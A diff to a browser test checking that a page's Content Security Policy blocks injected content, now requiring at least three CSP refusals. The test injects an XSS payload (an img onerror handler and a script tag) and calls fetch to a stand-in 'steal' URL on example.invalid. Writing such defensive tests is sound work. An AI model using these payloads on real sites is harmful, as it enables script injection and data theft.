@@ -142,12 +142,10 @@ def test_a_script_that_got_into_the_page_could_neither_run_nor_ask_for_anything(
     attack = "<img src='http://example.invalid/x.png' onerror='document.title=1'><script>document.title=2</script>"
     page.evaluate(f"document.querySelector('#groups').innerHTML = {json.dumps(attack)}")
     page.evaluate("fetch('http://example.invalid/steal').catch(() => {})")
-    page.wait_for("true")
-    assert any("Content Security Policy" in complaint for complaint in page.complaints)
+    page.evaluate("new Promise((then) => setTimeout(then, 100))")
+    refused = [complaint for complaint in page.complaints if "Content Security Policy" in complaint]
+    assert len(refused) >= 3, "the image, what it does on an error, and the request"
     assert page.evaluate("document.title") not in ("1", "2")
-    assert not [
-        address for address in page.requests if address.startswith("http") and "127.0.0.1" not in address and "csp" in address
-    ]
 
 
 # ---- whom it asks, and who may ask --------------------------------------------------------------------
